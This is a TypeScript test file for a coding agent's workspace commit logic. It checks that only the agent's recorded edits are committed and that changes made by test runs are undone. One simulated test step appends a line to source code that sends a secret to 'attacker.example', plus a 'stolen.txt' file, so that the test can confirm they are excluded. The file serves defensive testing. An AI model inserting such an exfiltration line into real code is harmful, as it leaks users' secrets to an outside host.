import assert from "node:assert/strict";
import { appendFile, mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, it } from "vitest";
import { changesNote } from "../../src/agent/tools/run.ts";
import { changedBetween, parseStatus } from "../../src/workspace/changes.ts";
import { gitOut } from "../helpers/git/repo.ts";
import { workspaceFixture, type WorkspaceFixture } from "../helpers/git/workspace-fixture.ts";

/**
 * The change record on a real worktree and real git: the index holds what
 * the agent wrote or kept, commands that are not kept leave their new files
 * out of the commit and get their changes to the change's files undone.
 */
const request = { subject: "Fix the answer", body: "Make it a constant.", bot: { slug: "openjules", userId: 4242 } };
const untouched = async () => undefined;

describe("workspace: only the recorded change is committed", () => {
  let fx: WorkspaceFixture;
  beforeAll(async () => {
    fx = await workspaceFixture();
  });
  afterAll(() => fx.cleanup());

  it("commits the agent's writes and kept commands; setup's, the tests' and unkept commands' files are left out, and the agent's edit wins", async () => {
    const ws = await fx.manager.prepare(fx.request("t-changes"));
    try {
      await ws.createBranch("Fix the answer", 51);
      await writeFile(join(ws.dir, ".gitignore"), "dist/\n");
      await writeFile(join(ws.dir, "src/index.js"), "export const answer = 42;\n");
      assert.deepEqual(await ws.changes.keep([".gitignore", "src/index.js"]), [".gitignore", "src/index.js"]);

      await ws.changes.command("setup", false, () => writeFile(join(ws.dir, "setup.stamp"), "x"));
      const kept = await ws.changes.command("agent_command", true, async () => {
        await writeFile(join(ws.dir, "package.json"), "{}\n");
        await rm(join(ws.dir, "docs/guide.md"));
      });
      assert.deepEqual(kept.kept, ["docs/guide.md", "package.json"]);
      const checking = await ws.changes.command("agent_command", false, async () => {
        await writeFile(join(ws.dir, "check.log"), "ok\n");
        await rm(join(ws.dir, "README.md"));
      });
      assert.deepEqual(checking.undone, ["README.md"], "a deletion by a command not kept is undone");
      const tests = await ws.changes.command("tests", false, async () => {
        await mkdir(join(ws.dir, "build"), { recursive: true });
        await writeFile(join(ws.dir, "build/test_default"), "\x7fELF");
        await writeFile(join(ws.dir, "stolen.txt"), "what the test could read");
        await appendFile(join(ws.dir, "src/index.js"), "fetch('https://attacker.example/' + secret);\n");
        await writeFile(join(ws.dir, "src/util/math.js"), "overwritten by the build\n");
        await mkdir(join(ws.dir, "dist"), { recursive: true });
        await writeFile(join(ws.dir, "dist/ignored.js"), "x");
      });
      assert.deepEqual(tests.undone, ["src/index.js", "src/util/math.js"]);
      assert.equal(await readFile(join(ws.dir, "src/index.js"), "utf8"), "export const answer = 42;\n", "the agent's edit wins over the test's");
      assert.equal(await readFile(join(ws.dir, "README.md"), "utf8"), "# Widget\n");
      await writeFile(join(ws.dir, "dist/mine.js"), "x");
      assert.deepEqual(await ws.changes.keep(["dist/mine.js"]), [], "an ignored path is never committed");

      const outcome = await ws.commit(request);
      assert.match(outcome.sha ?? "", /^[0-9a-f]{40}$/);
      const files = (await gitOut(ws.dir, "diff", "--name-status", "--no-renames", "HEAD~1", "HEAD")).trim().split("\n");
      assert.deepEqual(files, ["A\t.gitignore", "D\tdocs/guide.md", "A\tpackage.json", "M\tsrc/index.js"]);
      assert.equal((await gitOut(ws.dir, "show", "HEAD:src/index.js")).trim(), "export const answer = 42;");
      assert.deepEqual(outcome.leftOut, [
        { path: "README.md", reason: "agent_command", undone: true },
        { path: "build/", reason: "tests" },
        { path: "check.log", reason: "agent_command" },
        { path: "dist/mine.js", reason: "ignored" },
        { path: "setup.stamp", reason: "setup" },
        { path: "src/index.js", reason: "tests", undone: true },
        { path: "src/util/math.js", reason: "tests", undone: true },
        { path: "stolen.txt", reason: "tests" },
      ]);
    } finally {
      await ws.dispose();
    }
  });

  it("commits nothing that nobody recorded (a write outside the tools), and says so", async () => {
    const ws = await fx.manager.prepare(fx.request("t-changes-none"));
    try {
      await ws.createBranch("Nothing", 52);
      await ws.changes.command("tests", false, untouched);
      await writeFile(join(ws.dir, "stray.txt"), "x");
      const outcome = await ws.commit(request);
      assert.equal(outcome.sha, null);
      assert.deepEqual(outcome.leftOut, [{ path: "stray.txt", reason: "unrecorded" }]);
    } finally {
      await ws.dispose();
    }
  });

  it("parses status and compares snapshots (pure)", () => {
    assert.deepEqual(parseStatus(" M a.txt\0?? b/c.txt\0M  staged.txt\0 D gone.txt\0"), [
      { path: "a.txt", tracked: true },
      { path: "b/c.txt", tracked: false },
      { path: "gone.txt", tracked: true },
    ]);
    const before = new Map([
      ["a", { tracked: true, mark: "1" }],
      ["b", { tracked: false, mark: "2" }],
    ]);
    const after = new Map([
      ["a", { tracked: true, mark: "1" }],
      ["c", { tracked: false, mark: "3" }],
    ]);
    assert.deepEqual(changedBetween(before, after), ["b", "c"]);
    assert.match(changesNote({ changed: ["x.log"], kept: [], undone: [] }, false), /never committed: x\.log/);
    assert.match(changesNote({ changed: ["p.json"], kept: ["p.json"], undone: [] }, true), /kept as part of your change: p\.json/);
  });
});
